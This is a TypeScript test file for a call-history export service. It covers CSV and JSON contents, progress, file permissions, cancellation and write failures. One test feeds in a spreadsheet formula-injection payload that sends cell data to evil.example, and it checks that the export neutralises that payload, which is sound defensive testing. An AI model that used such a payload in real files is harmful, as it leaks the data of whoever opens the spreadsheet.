import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { emptyHistoryFilter } from '../../../contracts/domain/history-filter.ts';
import { dispositionIdSchema } from '../../../contracts/ids.ts';
import type { ExportFormat, ExportState } from '../../../contracts/ipc/history.ts';
import type { SaveRequest } from '../../app/file-dialogs.ts';
import { createIds } from '../../platform/ids.ts';
import { createFakeClock, createMemoryLogger } from '../../platform/testing.ts';
import { saveCall } from '../../storage/queries/calls.ts';
import { applyServerDisposition } from '../../storage/queries/dispositions.ts';
import { createInlineReading } from '../../storage/reading/testing.ts';
import type { Storage } from '../../storage/storage.ts';
import { createTestDatabase, type TestDatabase, testCall, testId } from '../../storage/testing.ts';
import { historyJobs } from '../history-jobs.ts';
import { createExportService, type ExportService } from './export-service.ts';

let database: TestDatabase;
let storage: Storage;
let folder: string;
let file: string;
let answer: string | null;
let exports: ExportService;
const asked: SaveRequest[] = [];

beforeEach(() => {
  database = createTestDatabase();
  storage = database.open();
  folder = mkdtempSync(join(tmpdir(), 'lydia-export-'));
  file = join(folder, 'calls.csv');
  answer = file;
  asked.length = 0;
  const clock = createFakeClock();
  exports = createExportService({
    reading: createInlineReading(storage, historyJobs),
    fileDialogs: {
      async chooseFileToSave(request) {
        asked.push(request);
        return answer;
      },
      chooseFileToOpen: async () => null,
    },
    language: () => 'fr',
    clock,
    ids: createIds(clock),
    logger: createMemoryLogger().logger,
  });
});
afterEach(() => {
  database.remove();
  rmSync(folder, { recursive: true, force: true });
});

const start = (format: ExportFormat, fields: object = {}) =>
  exports.start({ format, search: '', filter: { ...emptyHistoryFilter, ...fields } });

/** Waits until an export has ended; gives every state it went through. */
function untilEnded(): Promise<ExportState[]> {
  const states: ExportState[] = [];
  const { promise, resolve } = Promise.withResolvers<ExportState[]>();
  const leave = exports.watch((state) => {
    if (state === null) return;
    states.push(state);
    if (state.kind !== 'running') resolve(states);
  });
  return promise.finally(leave);
}

async function exportAll(format: ExportFormat, fields: object = {}): Promise<string> {
  expect(await start(format, fields)).toEqual({ ok: true, value: undefined });
  expect((await untilEnded()).at(-1)).toMatchObject({ kind: 'done', file });
  return readFileSync(file, 'utf8');
}

/** Reads CSV as RFC 4180 says. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const [, raw = '', end = ''] = cell.exec(text) ?? [];
    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

function fill(count: number): void {
  storage.write((db) => {
    for (let number = 1; number <= count; number += 1) saveCall(db, testCall(number));
  });
}

describe('a CSV file', () => {
  test('has what a team lead needs, one call a line, and comes back as it was', async () => {
    const dispositionId = dispositionIdSchema.parse(testId(800));
    const notes = 'Dit « "demain" »,\r\nou lundi; 5 €';
    storage.write((db) => {
      const label = { en: 'Sale', fr: 'Vente' };
      applyServerDisposition(db, { id: dispositionId, label, position: 0, isActive: true }, null);
      saveCall(
        db,
        testCall(1, { dispositionId, notes, tags: ['urgent', 'à rappeler'], queueName: 'Ventes' }),
      );
      saveCall(db, testCall(2, { answeredAt: null, endCause: 'abandoned', contactNumber: 'anonymous' }));
    });
    const text = await exportAll('csv');
    expect(text.startsWith('\ufeffid,started_at,')).toBe(true);
    const [header = [], second = [], first = []] = parseCsv(text.slice(1));
    const record = (row: string[]) => Object.fromEntries(header.map((name, index) => [name, row[index]]));
    expect(record(first)).toEqual({
      id: testId(1),
      started_at: '2026-01-01T09:01:00.000Z',
      answered_at: '2026-01-01T09:01:04.000Z',
      ended_at: '2026-01-01T09:01:50.000Z',
      waiting_seconds: '4',
      talking_seconds: '46',
      direction: 'inbound',
      is_answered: 'true',
      outcome: 'contact-hung-up',
      contact_number: '+33612345678',
      contact_name: '',
      company: '',
      line_number: '+33199001000',
      queue: 'Ventes',
      operator: '',
      disposition: 'Vente',
      tags: 'urgent, à rappeler',
      has_recording: 'false',
      notes,
    });
    expect(record(second)).toMatchObject({
      waiting_seconds: '50',
      talking_seconds: '',
      outcome: 'abandoned',
    });
  });

  test('begins no formula with anything a caller or an operator wrote', async () => {
    const attack = `=HYPERLINK("https://evil.example/?"&A1,"x")`;
    storage.write((db) =>
      saveCall(
        db,
        testCall(1, { notes: `Bonjour;${attack}`, contactName: attack, queueName: attack, tags: ['@x'] }),
      ),
    );
    const [, row = []] = parseCsv((await exportAll('csv')).slice(1));
    for (const cell of row.filter((text) => !/^\+\d+$/.test(text)))
      expect(cell).not.toMatch(/(^|;)\s*[=+\-@]/);
    expect(row).toContain(`'${attack}`);
  });
});

test('a JSON file is one list of whole records, also when it is empty', async () => {
  expect(JSON.parse(await exportAll('json'))).toEqual([]);
  fill(3);
  const calls = JSON.parse(await exportAll('json'));
  expect(calls.map((call: { id: string }) => call.id)).toEqual([3, 2, 1].map(testId));
  expect(calls[0]).toMatchObject({ tags: [], contactNumber: '+33612345678', company: null });
});

test('has all calls of the query and no others, whatever their number, and tells how far it is', async () => {
  fill(1_203);
  storage.write((db) => saveCall(db, testCall(2_000, { direction: 'outbound' })));
  expect(await start('csv', { direction: 'inbound' })).toMatchObject({ ok: true });
  const states = await untilEnded();
  expect(
    states.map((state) => (state.kind === 'running' ? [state.doneCalls, state.totalCalls] : state.kind)),
  ).toEqual([[0, null], [0, 1_203], [500, 1_203], [1_000, 1_203], [1_203, 1_203], 'done']);
  expect(readFileSync(file, 'utf8').trimEnd().split('\r\n')).toHaveLength(1_204);
});

test('is for the eyes of its user alone', async () => {
  fill(1);
  await exportAll('csv');
  expect(statSync(file).mode & 0o777).toBe(0o600);
});

test('left off half way leaves nothing, and leaves alone what had the name', async () => {
  fill(1_500);
  writeFileSync(file, 'before');
  await start('csv');
  const ended = untilEnded();
  const leave = exports.watch((state) => {
    if (state?.kind === 'running' && state.doneCalls >= 500) exports.cancel();
  });
  expect((await ended).at(-1)).toEqual({ kind: 'cancelled' });
  leave();
  expect(readdirSync(folder)).toEqual(['calls.csv']);
  expect(readFileSync(file, 'utf8')).toBe('before');
});

test('a place that cannot be written to is a failure in words, with nothing left behind', async () => {
  fill(1);
  answer = join(folder, 'no such folder', 'calls.csv');
  await start('csv');
  expect((await untilEnded()).at(-1)).toEqual({ kind: 'failed', code: 'file-not-written' });
  // The name is that of a folder: found out at the end.
  mkdirSync(file);
  answer = file;
  await start('csv');
  expect((await untilEnded()).at(-1)).toEqual({ kind: 'failed', code: 'file-not-written' });
  expect(readdirSync(folder)).toEqual(['calls.csv']);
});

test('is not begun when the person changes his mind, and one at a time', async () => {
  answer = null;
  expect(await start('json')).toMatchObject({ ok: false, error: { code: 'cancelled' } });
  expect(asked[0]).toEqual({
    suggestedName: 'lydia-calls-2026-01-01.json',
    kind: { name: 'JSON', extensions: ['json'] },
  });
  answer = file;
  fill(10);
  const [first, second] = await Promise.all([start('csv'), start('csv')]);
  expect([first.ok, second]).toEqual([true, expect.objectContaining({ ok: false })]);
  await untilEnded();
  expect(existsSync(file)).toBe(true);
});
